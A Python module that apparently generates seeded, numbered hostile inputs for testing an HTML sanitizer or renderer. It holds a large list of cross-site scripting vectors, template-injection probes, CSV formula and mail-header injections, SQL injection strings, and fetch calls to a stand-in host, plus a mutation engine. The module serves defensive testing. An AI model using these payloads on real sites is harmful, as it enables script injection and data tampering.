"""Words that try to be more than words, as many as wanted from one seed: each has a mark of its own, and nothing in it may ever happen.

What runs calls `__ran` or `alert`; what is fetched is asked of FAR; an element or an attribute that comes of it carries VX."""

import random
from collections.abc import Callable, Iterator

FAR = "http://far.example"
VX = "data-vx"
# They stand for the script, the address and the attribute, and outlive a mutation as one letter does.
RUN, AWAY, MARKED = "\ue000", "\ue001", "\ue002"
RUNS = ("__ran({n})", "window['__ran']({n})", "alert({n})", "top.__ran({n})", "__ran`{n}`", "fetch('{far}')", "import('{far}')", "location='{far}'",
        "eval('__ran({n})')", "setTimeout('__ran({n})')", "Function('__ran({n})')()", "(0,parent.__ran)({n})", "document.write('<b {vx}>')")

VECTORS = (
    # scripts
    f"<script>{RUN}</script>", f"<script {MARKED} src={AWAY}></script>", f"<script type=module>{RUN}</script>", f"<script src=data:,{RUN}></script>",
    f"<script>/*<!--*/{RUN}//--></script>", f"<svg><script {MARKED}>{RUN}</script></svg>", f"<svg><script href='{AWAY}'/></svg>",
    # event handlers
    f"<img {MARKED} src=x onerror={RUN}>", f"<img src=x onerror='{RUN}'>", f"<img/src=x/onerror={RUN}>", f"<svg {MARKED} onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<body {MARKED} onload={RUN}>", f"<input {MARKED} autofocus onfocus={RUN}>",
    f"<details {MARKED} open ontoggle={RUN}>x", f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>",
    f"<marquee {MARKED} onstart={RUN}>x</marquee>", f"<select autofocus onfocus={RUN}>", f"<style onload={RUN}></style>",
    f"<x-v {MARKED} onfocus={RUN} tabindex=1 id=v>", f"<p style='animation:blink' onanimationstart={RUN}>", f"<iframe onload={RUN}></iframe>",
    f"<object data=x onerror={RUN}>", f"<button {MARKED} popovertarget=v onclick={RUN}>x",
    f"<xss onpointerrawupdate={RUN} style=position:fixed;inset:0>",
    # addresses
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"\x01javascript:{RUN}", f"javascript&colon;{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}", f"<a {MARKED} href=javascript:{RUN}>x</a>", f"<a href='{AWAY}' ping='{AWAY}'>x</a>",
    f"<form {MARKED} action=javascript:{RUN}><input type=submit>",
    f"<iframe {MARKED} src=javascript:{RUN}>", f"<iframe srcdoc='<script>parent.{RUN}</script>'>", f"<embed {MARKED} src={AWAY}>",
    f"<base {MARKED} href={AWAY}>",
    f"<meta {MARKED} http-equiv=refresh content='0;url={AWAY}'>", f"<link {MARKED} rel=stylesheet href={AWAY}>", f"<link rel=prefetch href={AWAY}>",
    f"<img {MARKED} src={AWAY}>", f"<img srcset='{AWAY} 2x'>", f"<video poster={AWAY}>", f"<table {MARKED} background={AWAY}>",
    f"<svg><image href={AWAY}></svg>",
    f"//far.example/x#{RUN}", f"http://x@far.example/{RUN}", f"https://far.example/\"onmouseover={RUN}//",
    # out of an attribute, a text, a comment, a script, a style, a JSON block
    f'" {MARKED} onfocus={RUN} autofocus x="', f"' {MARKED} onmouseover={RUN} '", f"` {MARKED} onload={RUN} `",
    f'"><img {MARKED} src=x onerror={RUN}>',
    f"'><svg {MARKED} onload={RUN}>", f"</textarea><img {MARKED} src=x onerror={RUN}>", f"</title><svg {MARKED} onload={RUN}>",
    f"</script><script>{RUN}</script>",
    f"--><script>{RUN}</script>", f"--!><img {MARKED} src=x onerror={RUN}>", f"]]><svg {MARKED} onload={RUN}>", f"</style><script>{RUN}</script>",
    f"*/{RUN}/*",
    f"</option></select><img {MARKED} src=x onerror={RUN}>", f"</noscript><img src=x onerror={RUN}>", f"</template><b {MARKED}>x</b>", f"';{RUN};'",
    f'";{RUN};//',
    f"\\';{RUN};//", f"${{{RUN}}}", f'"}};{RUN};{{"', f'"]}}</script><script>{RUN}</script>', f"\\u003cscript\\u003e{RUN}", f"\u2028{RUN}\u2029//",
    "<!--", "<!-- -- >",
    "<![CDATA[", "<plaintext>", "<textarea>", "<title>", "<xmp>", "<noscript><p title='</noscript>'>", "<template>", "<frameset>", "</body></html>",
    "</vouch-chat>",
    # what changes when it is read twice
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;img src=x onerror={RUN}&#62;", f"%3Cscript%3E{RUN}%3C/script%3E", f"＜script＞{RUN}＜/script＞",
    f"+ADw-script+AD4-{RUN}",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<<script>{RUN}//<</script>", f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<svg></p><style><g title='</style><img {MARKED} src=x onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    # templates, styles, Markdown, CSV, mail headers, SQL, formats
    "{{7*191}}", f"{{{{constructor.constructor('{RUN}')()}}}}", "{% raw %}{{ config }}", "<%= 7*191 %>", "#{7*191}", "%(name)s {name} {0}",
    "[[${7*191}]]",
    f"<div {MARKED} style='background:url({AWAY})'>x</div>", f"<style {MARKED}>@import '{AWAY}'</style>", f"}}*{{background:url({AWAY})}}",
    "expression(alert(1))",
    f"[x](javascript:{RUN})", f"[x](data:text/html,<script>{RUN}</script>)", f"![x]({AWAY})", f"[x]({AWAY}\"onclick={RUN})", f"<javascript:{RUN}>",
    f"**<img src=x onerror={RUN}>**",
    f"`</code><svg onload={RUN}>`", f"```\n</pre><script>{RUN}</script>\n```", f"- <img {MARKED} src=x onerror={RUN}>\n- _x_",
    f"[a]: javascript:{RUN}\n[a]", "**a _b `c** d_ e`",
    f"=HYPERLINK(\"{AWAY}\",\"x\")", "=1+1", "@SUM(1)", "-2+3", f"x\r\nBcc: all@far.example\r\n\r\n<script>{RUN}</script>",
    "'; DROP TABLE entry;--", "\" OR 1=1 --",
    # the element's own machinery, and the names that objects have
    f"<p hx-get={AWAY} hx-trigger=load {MARKED}>", f"<p hx-on:load={RUN} {MARKED}>", f"<slot {MARKED} onslotchange={RUN}>", "__proto__",
    "constructor", "toString", "[object Object]", "undefined",
    f"<a id=vouch {MARKED}><a id=vouch name=x {MARKED}>", f"<img name=__ran {MARKED}>", f"<input name=attributes {MARKED}>",
    f"<b {MARKED} slot=x part=y>x",
)
# What no eye expects: text turned around, letters without a width or a shape, one word without an end.
STRANGE: tuple[Callable[[random.Random], str], ...] = (
    lambda dice: f"\u202e{dice.choice('abc')}evil\u202c\u2066\u200f", lambda dice: "\u200b\u200d\ufeff\u2060" * dice.randint(1, 9),
    lambda dice: "😀👩‍👩‍👧‍👦🏴‍☠️" * dice.randint(1, 12),
    lambda dice: dice.choice(("\ud800", "\udfff", "\udc00\ud800", "x\ud83d")), lambda dice: "\u2028\u2029\x85\x0b\x0c", lambda dice: "a\x00b\x00",
    lambda dice: "\x07\x1b[31m\x7f\x9b",
    lambda dice: dice.choice("WwMm_") * dice.randint(80, 600),
    # one letter as far as a line may break: marks on marks, families without an end, syllables, consonants joined
    lambda dice: "Z" + dice.choice(("\u0301\u0320\u0489", "\u0489", "\u20dd", "\u0301\u200d")) * dice.randint(3, 400),
    lambda dice: dice.choice(("😀\u200d", "\u1100", "\u1161", "क\u094d", "\u0600")) * dice.randint(3, 90) + "|",
    lambda dice: "﷽" * dice.randint(1, 20),
    lambda dice: "שלום <b>عليكم</b> " * dice.randint(1, 4), lambda dice: "\n" * dice.randint(2, 20) + "|",
    lambda dice: "https://" + "a" * dice.randint(60, 400),
    lambda dice: "/" * dice.randint(60, 300), lambda dice: "\uffff\ufffe\ufdd0", lambda dice: "𝕬𝖑𝖊𝖗𝖙 ᴬᴮ ﬃ ①", lambda dice: "\t" * 20 + "|",
    lambda dice: "—" * dice.randint(60, 300),
)
SHELLS = ("{}", "{}", "{}", '"{}', "'{}", ">{}", '">{}', "-->{}", "</textarea>{}", "</script>{}", "</title>{}", "</style>{}", "\n\n{}", "**{}**",
          "[{}](x)", "`{}`", "- {}", "x{}x", "<b>{}</b>",
          "\u202e{}", "&amp;{}", "{{{{{}}}}}", "<!--{}", "{}<!--", "<![CDATA[{}]]>", "1. {}", "@{}", "={}", "http://{}", "https://x.example/{}",
          "javascript:{}//")


def hostile(seed: int, count: int, *, first: int = 0) -> Iterator[str]:
    """This many of them, numbered from `first`; every known one comes as it is before any is changed."""
    dice = random.Random(f"{seed} {first}")
    for at in range(count):
        number = first + at
        words = VECTORS[number] if number < len(VECTORS) else _another(dice)
        yield f"{_filled(words, number, dice)} {mark(number)}"


def mark(number: int) -> str:
    """What tells one from all others, wherever it is met."""
    return f"h{number}h"


def _another(dice: random.Random) -> str:
    if dice.random() < 0.15:
        return dice.choice(STRANGE)(dice)
    words = dice.choice(VECTORS)
    if dice.random() < 0.2:
        other = dice.choice(VECTORS)
        words = words[:dice.randint(0, len(words))] + other[dice.randint(0, len(other)):]
    for _ in range(dice.choice((0, 1, 1, 2, 4))):
        words = dice.choice(CHANGES)(words, dice)
    return dice.choice(SHELLS).format(words)


def _somewhere(put: Callable[[random.Random], str]) -> Callable[[str, random.Random], str]:
    def change(words: str, dice: random.Random) -> str:
        at = dice.randint(0, len(words))
        return words[:at] + put(dice) + words[at:]

    return change


def _spaced(words: str, dice: random.Random) -> str:
    return words.replace(" ", dice.choice(("\t", "\n", "/", "\x0c", "  ", "\xa0", "+")))


def _without(words: str, dice: random.Random) -> str:
    at = dice.randint(0, len(words))
    return words[:at] + words[at + 1:]


def _spelled(words: str, dice: random.Random) -> str:
    """One letter as an entity, an escape or a percent code."""
    at = dice.randrange(len(words)) if words else 0
    how = dice.choice(("&#{};", "&#x{:x};", "%{:02x}", "\\u{:04x}", "\\x{:02x}"))
    return words[:at] + how.format(ord(words[at])) + words[at + 1:] if words else how.format(60)


CHANGES: tuple[Callable[[str, random.Random], str], ...] = (
    lambda words, dice: "".join(dice.choice((letter.upper(), letter)) for letter in words), lambda words, dice: words.swapcase(), _spaced, _without,
    _spelled,
    _somewhere(lambda dice: dice.choice(("\x00", "\u200b", "\u202e", "\ufeff", "\u2028", "\xad", "\ud83d"))),
    _somewhere(lambda dice: dice.choice("<>\"'`/=&;\\{}()[]!-")),
    _somewhere(lambda dice: dice.choice(SHELLS[:12]).format("")), lambda words, dice: words.replace("=", "\n=\n"), lambda words, dice: words * 2,
    lambda words, dice: words.replace("<", "&lt;", 1),
    lambda words, dice: words.replace('"', "'"), lambda words, dice: words.removesuffix(">"),
    lambda words, dice: words + dice.choice(("😀", "\u0301", "ä", "\u05d0")),
)


def _filled(words: str, number: int, dice: random.Random) -> str:
    far, marked = f"{FAR}/{mark(number)}", f"{VX}={mark(number)}"
    run = dice.choice(RUNS).format(n=number, far=far, vx=VX)
    return words.replace(RUN, run).replace(AWAY, far).replace(MARKED, marked)
